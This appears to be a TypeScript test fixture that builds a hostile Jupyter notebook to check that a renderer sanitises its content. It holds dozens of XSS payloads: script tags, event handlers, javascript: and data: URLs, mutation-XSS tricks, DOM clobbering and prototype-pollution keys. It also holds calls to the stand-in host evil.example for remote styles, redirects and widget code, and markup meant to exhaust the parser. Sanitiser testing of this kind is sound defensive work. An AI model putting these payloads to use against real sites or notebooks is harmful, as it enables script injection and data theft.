/** Calls that would be seen, if anything of this ran. */
const RUN = 'globalThis.pwned=1';

const HTML = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text y=20>a</text></a></svg>`,
  `<a href="javascript:${RUN}">link</a><a href=" java\nscript:${RUN}">link</a><a href="data:text/html,<script>${RUN}</script>">link</a>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="data:text/html,<script>${RUN}</script>"></object><embed src="//evil.example">`,
  `<form action="//evil.example"><input autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">go</button></form>`,
  `<style>*{display:none} @import "//evil.example/a.css";</style><link rel=stylesheet href="//evil.example/b.css">`,
  `<div style="position:fixed;inset:0;background:url(//evil.example/c)" class="button primary" id="page" onmouseover="${RUN}">over all</div>`,
  `<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example/">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<img src="https://evil.example/track.png" alt="tracker"><img srcset="//evil.example/2x.png 2x"><video poster="//evil.example/p" src="//evil.example/v"></video>`,
  `<details open ontoggle="${RUN}"><summary>s</summary></details><input type=image src=x onerror="${RUN}">`,
  `<template><script>${RUN}</script></template><xss style="xss:expression(${RUN})" onpointerenter="${RUN}">x</xss>`,
  `<form id=cookie><input name=attributes><input name=parentNode></form><img name=getElementById><a id=defaultView></a>`,
  '<div>'.repeat(2000),
];

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="https://evil.example/s.png"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${RUN}"/></foreignObject></svg>`;

const MARKDOWN = [
  `[click](javascript:${RUN}) [data](data:text/html;base64,PHNjcmlwdD4=) ![x](javascript:${RUN}) ![t](https://evil.example/m.png)`,
  `<img src=x onerror="${RUN}"> <script>${RUN}</script>`,
  `![x](attachment:evil.svg) ![y](attachment:__proto__) [ref]: javascript:${RUN}`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  '> '.repeat(3000),
  '['.repeat(3000),
];

const bundle = (data: object): object => ({ output_type: 'display_data', metadata: { onload: RUN }, data });

/** A notebook in which everything that is shown tries to run something, to look like the page, or to call home. */
export function hostileNotebook(): object {
  const outputs = [
    ...HTML.map((html) => bundle({ 'text/html': html })),
    ...MARKDOWN.map((text) => bundle({ 'text/markdown': text })),
    bundle({ 'image/svg+xml': SVG }),
    bundle({ 'image/png': `" onerror="${RUN}` }),
    bundle({ 'image/png': { toString: 'x' }, 'text/plain': ['<b>', 7, null] }),
    bundle({ 'application/javascript': RUN }),
    bundle({ 'application/vnd.jupyter.widget-view+json': { model_id: '__proto__' }, 'text/html': `<script>${RUN}</script>` }),
    bundle({ [`<img src=x onerror=${RUN}>`]: 'x' }),
    {
      output_type: 'stream',
      name: `"><script>${RUN}</script>`,
      text: `\u001b]8;;javascript:${RUN}\u0007link\u001b]8;;\u0007\u001b[38;5;999m\u001b[;;;;m<script>`,
    },
    { output_type: 'error', ename: `<script>${RUN}</script>`, evalue: RUN, traceback: [`\u001b[31m<img src=x onerror=${RUN}>`] },
    { output_type: 'unheard of', data: [RUN] },
  ];
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      kernelspec: { name: `"><script>${RUN}</script>`, language: `<script>${RUN}</script>`, display_name: '__proto__' },
      language_info: { name: 'constructor' },
      widgets: {
        'application/vnd.jupyter.widget-state+json': {
          state: { a: { model_module: '//evil.example/w.js', state: { value: `<script>${RUN}</script>` } } },
        },
      },
    },
    cells: [
      ...MARKDOWN.map((source, index) => ({
        cell_type: 'markdown',
        id: `m${index}`,
        source,
        metadata: {},
        attachments: { 'evil.svg': { 'image/svg+xml': SVG } },
      })),
      { cell_type: 'code', id: 'c', source: `</script><script>${RUN}</script>`, metadata: { trusted: true }, outputs, execution_count: 1 },
      { cell_type: `<script>${RUN}</script>`, id: 'odd', source: 'odd', metadata: {} },
      { cell_type: 'markdown', id: 'last', source: 'the last cell', metadata: {} },
    ],
  };
}
